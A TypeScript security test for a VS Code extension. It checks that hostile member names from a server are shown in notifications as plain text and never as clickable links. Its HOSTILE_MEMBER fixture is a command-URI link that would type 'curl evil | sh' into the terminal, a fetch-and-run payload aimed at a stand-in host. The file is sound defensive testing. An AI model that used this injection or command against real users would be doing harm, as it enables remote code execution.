import * as assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { type HostileProject, useHostileProject } from '../hostileProject';
import { NotificationSpy } from '../notifications';
import { api, eventually } from '../support';

/** VS Code's own pattern for a link in a notification (as test/unit/server-text.test.ts has it). */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
/** A member name a server puts in an event's inputs: in a notification, a link that types into a terminal. */
const HOSTILE_MEMBER = '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%20%7C%20sh%5Cn%22%7D)';

const ACTION_YAML = `key: echo\nname: echo\ndescription: says hello\ndeveloperEmail: dev@example.com\nparameters:\n  - name: who\n    type: text\nresult:\n  type: text\n`;

/**
 * Class 3 of issue #25 (docs/security.md, "Round two"): text from a server reaches no notification
 * except through serverText, however many files it passed through first. A hostile member name in a
 * recorded event's inputs is followed through Pin as Test (save), then a run and a debug of sets that
 * hold it (the notification).
 */
describe('Security: an event’s member names reach no notification as a link', function () {
  this.timeout(120_000);
  let project: HostileProject;
  let folder: vscode.Uri;

  before(async () => {
    project = await useHostileProject();
    folder = vscode.Uri.joinPath(project.appFolder, 'echo');
    await vscode.workspace.fs.createDirectory(vscode.Uri.joinPath(folder, 'inputs'));
    await writeFile(join(folder.fsPath, 'action.yaml'), ACTION_YAML);
    await writeFile(join(folder.fsPath, 'main.ts'), 'export function main(who: string): string {\n  return `hello ${who}`;\n}\n');
    project.server.actions = [{ id: 'h-echo', key: 'echo', metadata: { key: 'echo' }, code: '' }];
    const { services } = await api();
    await eventually(() => services.model.localAction(project.appUid, 'echo'), 'the action folder, known to the model');
  });

  after(async () => {
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await project.restore();
  });

  const raw = { id: 'ev-hostile', name: 'success', startTime: Date.now(), data: { inputs: { who: 'Ada', [HOSTILE_MEMBER]: 1 }, result: 'hello Ada' } };
  const lensEvent = () => ({ kind: 'lensEvent', appId: project.appUid, key: 'echo', actionId: 'h-echo', raw });

  it('Pin as Test keeps only declared parameters and says what it left out, as text', async () => {
    const spy = new NotificationSpy();
    try {
      const saved = await vscode.commands.executeCommand<vscode.Uri | undefined>('customActions.pinEventAsTest', lensEvent(), 'from-event');
      assert.ok(saved, 'the case is saved');
      const content = JSON.parse(await readFile(saved.fsPath, 'utf8')) as { inputs: unknown };
      assert.deepEqual(content.inputs, { who: 'Ada' }, 'the undeclared member is not saved');
      const told = await eventually(() => spy.matching(/does not declare as parameters, left out/)[0], 'what was left out');
      assert.ok(told.message.includes('[Fix it] (command:'), told.message);
      assert.doesNotMatch(told.message, NOTIFICATION_LINK);
    } finally {
      spy.dispose();
    }
  });

  it('Save as Input Set keeps only declared parameters, and the set then runs with no problem to quote', async () => {
    const spy = new NotificationSpy();
    // The name the user would type in the input box.
    const window = vscode.window as { showInputBox: typeof vscode.window.showInputBox };
    const showInputBox = window.showInputBox;
    window.showInputBox = () => Promise.resolve('from-event-plain');
    try {
      const saved = await vscode.commands.executeCommand<vscode.Uri | undefined>('customActions.saveEventAsInputSet', lensEvent());
      window.showInputBox = showInputBox;
      assert.ok(saved, 'the set is saved');
      assert.deepEqual(JSON.parse(await readFile(saved.fsPath, 'utf8')), { who: 'Ada' }, 'the undeclared member is not saved');
      await eventually(() => spy.matching(/does not declare as parameters, left out/)[0], 'what was left out');
      // The saved set runs on the server: what it says is the server's too, shown as text.
      await vscode.commands.executeCommand('customActions.runInputSet', saved, 'Test');
      await eventually(() => spy.matching(/^echo ran in Test: success/)[0], 'the run’s notification');
      assert.deepEqual(spy.matching(/does not fit/), [], 'the pinned set fits its parameters');
      for (const shown of spy.shown) assert.doesNotMatch(shown.message, NOTIFICATION_LINK, shown.message);
    } finally {
      window.showInputBox = showInputBox;
      spy.dispose();
    }
  });

  it('a set that holds such a member (saved before, or shipped in a clone) is refused in words, not in a link, by Run and F5', async () => {
    const shipped = vscode.Uri.joinPath(folder, 'inputs', 'shipped.json');
    await writeFile(shipped.fsPath, JSON.stringify({ who: 'Ada', [HOSTILE_MEMBER]: 1 }, null, 2));
    const spy = new NotificationSpy();
    try {
      await vscode.commands.executeCommand('customActions.runInputSet', shipped, 'Test');
      const started = await vscode.debug.startDebugging(vscode.workspace.workspaceFolders?.[0], {
        type: 'customActions',
        request: 'launch',
        name: 'hostile set',
        action: folder.fsPath,
        inputSet: shipped.fsPath,
      });
      assert.equal(started, false, 'nothing was debugged');
      const refusals = await eventually(() => {
        const found = spy.matching(/^The input set shipped does not fit the parameters of echo/);
        return found.length >= 2 ? found : undefined;
      }, 'both refusals');
      for (const refusal of refusals) {
        assert.ok(refusal.message.includes('[Fix it] (command:'), refusal.message);
        assert.doesNotMatch(refusal.message, NOTIFICATION_LINK, refusal.message);
      }
    } finally {
      spy.dispose();
    }
  });
});
